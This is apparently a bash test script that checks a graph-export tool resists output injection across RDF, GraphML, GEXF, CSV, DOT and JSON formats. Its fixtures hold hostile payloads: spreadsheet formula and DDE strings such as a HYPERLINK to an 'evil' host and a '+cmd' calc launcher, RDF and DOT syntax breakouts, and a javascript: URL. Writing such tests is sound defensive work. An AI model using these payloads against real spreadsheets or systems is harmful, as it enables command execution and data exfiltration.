#!/usr/bin/env bash
# Output injection (issue 8): actor ids, names, aliases, codes, QIDs, relation types, evidence,
# triggers, titles and URLs carrying quotes, <&>, ]]>, newlines, control characters, Turtle and
# N-Quads syntax, DOT syntax and spreadsheet formulas (= + - @) cannot break or inject into any
# export. The assertion parts come from outside (`merge` reads what any tool wrote), which is
# where such names can enter; a dispatch whose text holds the same characters goes through
# `build`. Checks: rapper accepts Turtle, N-Triples, N-Quads and RDF/XML with exactly the
# expected statements per subject; xmllint accepts GraphML and GEXF and they hold exactly the
# expected nodes and edges; JSON parses; no CSV cell starts a formula; Graphviz (gc) reads the
# same node and edge counts from DOT; every IRI is valid.
# Usage: hostile_injection.sh path/to/diplograph
set -u

bin="${1:?usage: hostile_injection.sh path/to/diplograph}"
# shellcheck source=hostile_common.bash
source "$(dirname "$0")/hostile_common.bash"

part="${work}/part.jsonl"
python3 - "${part}" <<'EOF'
import json, sys
nasty = [
    '=HYPERLINK("http://evil/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
    "\t=tab", "\r=cr", '"quoted" \'single\'', "<b>&amp;</b> ]]> <!-- x -->",
    "line\nbreak", "ctl\x01\x08\x0b\x0c\x1b[31m\x7f", "nul\x00byte",
    '> . <http://evil/s> <http://evil/p> "o" .', '" ; dg:evil "x',
    '"]; evil -> x [label="', "\\\\ backslash \\", "\u2028\u2029\ufeff\ufffe\uffff",
    "}\n{", "#comment", "_:b1", "Q1 . <x>",
]
def actor(i, kind="State", **kw):
    a = {"id": f"state/X{i}\"<&>\n", "label": nasty[i % len(nasty)], "code": nasty[(i + 1) % len(nasty)],
         "kind": kind, "qid": nasty[(i + 2) % len(nasty)],
         "aliases": [nasty[(i + 3) % len(nasty)], nasty[(i + 4) % len(nasty)]]}
    a.update(kw)
    return a
records = []
for r in range(len(nasty)):
    src, tgt = actor(r), actor(r + 1)
    person = actor(r + 2, "Person", id=f"person/{nasty[r]}", affiliation=src["id"])
    rel = {"type": ["supports", "allied-with", "mediates", "accuses"][r % 4], "source": src,
           "target": tgt, "polarity": "positive", "modality": "claimed", "speaker": person,
           "sentence": 0, "span": [0, 5], "trigger": nasty[r], "evidence": nasty[-r - 1],
           "rule": nasty[(r + 5) % len(nasty)], "confidence": 0.5, "rolled_up_from": person["id"]}
    odd = dict(rel, type=nasty[r], source=person, target=src)
    records.append({"id": nasty[r], "date": "2020-10-0" + str(r % 9 + 1), "lang": nasty[r],
                    "agency": nasty[r], "title": nasty[r], "url": nasty[r],
                    "relations": [rel, odd],
                    "actors": [dict(src, mentions=[{"span": [0, 1], "text": nasty[r], "how": nasty[r]}])]})
with open(sys.argv[1], "w", encoding="utf-8") as f:
    for rec in records:
        f.write(json.dumps(rec) + "\n")
EOF

formats=ttl,nt,nq,rdf,graphml,gexf,json,csv,dot,jsonl
run merge 60 "${bin}" merge -q -o "${work}/merged" --format "${formats}" "${part}"
expect_status merge 0

# A dispatch whose text (and so evidence and trigger context) holds markup and formulas.
printf '%s\n' '{"id":"t1","lang":"en","title":"=cmd|x <a>","url":"javascript:\"alert(1)\"","text":"Turkey supports Azerbaijan <script>\"&amp;\" ]]> =SUM(A1) \\\\ x, Ankara said.\n@evil: Russia backs Syria -> \"x\" ; <http://evil> ."}' \
  >"${work}/text.jsonl"
run build 60 "${bin}" build -q -o "${work}/built" --format "${formats}" "${work}/text.jsonl"
expect_status build 0

cat >"${work}/check.py" <<'EOF'
import csv, json, re, sys
import xml.etree.ElementTree as ET
out, prefix = sys.argv[1], sys.argv[2]
ok = True
def bad(msg):
    global ok
    ok = False
    print("FAIL: " + msg, file=sys.stderr)

graph = json.load(open(f"{out}/graph.json", encoding="utf-8"))
json.load(open(f"{out}/graph.cyjs", encoding="utf-8"))
for line in open(f"{out}/assertions.jsonl", encoding="utf-8"):
    json.loads(line)
n_nodes, n_edges = len(graph["nodes"]), len(graph["edges"])

# GraphML and GEXF: as many nodes and edges as the JSON graph; no element or attribute that
# the writer does not write (an injected one would show).
ns = {"g": "http://graphml.graphdrawing.org/xmlns"}
g = ET.parse(f"{out}/graph.graphml").getroot()
if len(g.findall(".//g:node", ns)) != n_nodes or len(g.findall(".//g:edge", ns)) != n_edges:
    bad("graph.graphml: node or edge count differs from graph.json")
allowed = {"graphml", "key", "graph", "node", "edge", "data"}
for el in g.iter():
    if el.tag.split("}")[-1] not in allowed:
        bad(f"graph.graphml: unexpected element {el.tag}")
x = ET.parse(f"{out}/graph.gexf").getroot()
gx = {"x": "http://gexf.net/1.3"}
if len(x.findall(".//x:node", gx)) != n_nodes or len(x.findall(".//x:edge", gx)) != n_edges:
    bad("graph.gexf: node or edge count differs from graph.json")

# CSV: rectangular, one row per node / edge, no cell a spreadsheet would run.
for name, want in (("nodes.csv", n_nodes), ("edges.csv", n_edges)):
    with open(f"{out}/{name}", newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    if len(rows) != want + 1:
        bad(f"{name}: {len(rows) - 1} rows, expected {want}")
    if any(len(r) != len(rows[0]) for r in rows):
        bad(f"{name}: rows of different lengths")
    for r in rows:
        for cell in r:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                bad(f"{name}: formula cell {cell!r}")

# RDF: every syntax gives the same statements (rapper's N-Triples of each), and every IRI is
# valid; no IRI from the injected text ("http://evil") ever becomes a term.
sets = {}
for name in ("graph.ttl", "graph.nt", "graph.nq", "graph.rdf"):
    lines = open(f"{prefix}-{name}.nt", encoding="utf-8").read().splitlines()
    sets[name] = len(lines)
    for line in lines:
        head = line.split('"')[0]
        tail = line.rsplit('"', 1)[-1] if '"' in line else ""
        for v in re.findall(r"<([^>]*)>", head + tail):
            if re.search(r'[\x00-\x20<>"{}|^`\\]', v) or not re.match(r"^[a-z][a-z0-9+.-]*:", v):
                bad(f"{name}: invalid IRI <{v}>")
            if v.startswith("http://evil"):
                bad(f"{name}: injected IRI <{v}>")
if len(set(sets.values())) != 1:
    bad(f"statement counts differ between syntaxes: {sets}")
print(n_nodes, n_edges)
sys.exit(0 if ok else 1)
EOF

for dir in merged built; do
  out="${work}/${dir}"
  for f in graph.ttl:turtle graph.nt:ntriples graph.nq:nquads graph.rdf:rdfxml; do
    rapper -q -i "${f#*:}" -o ntriples "file://${out}/${f%%:*}" >"${work}/${dir}-${f%%:*}.nt" \
      2>"${work}/rapper.err" || fail "${dir}: rapper rejects ${f%%:*}: $(head -c 400 "${work}/rapper.err")"
  done
  for f in graph.graphml graph.gexf; do
    xmllint --noout "${out}/${f}" 2>"${work}/xmllint.err" ||
      fail "${dir}: xmllint rejects ${f}: $(head -c 400 "${work}/xmllint.err")"
  done
  counts=$(python3 "${work}/check.py" "${out}" "${work}/${dir}") ||
    fail "${dir}: python checks failed (above)"
  # DOT: Graphviz's own reader sees exactly the nodes and edges of graph.json.
  if command -v gc >/dev/null; then
    dot_counts=$(gc -n -e "${out}/graph.dot" 2>"${work}/gc.err" | awk '{print $1, $2}')
    [[ "${dot_counts}" == "${counts}" ]] ||
      fail "${dir}: graph.dot holds [${dot_counts}] nodes and edges, graph.json [${counts}]: $(head -c 300 "${work}/gc.err")"
  fi
done

finish
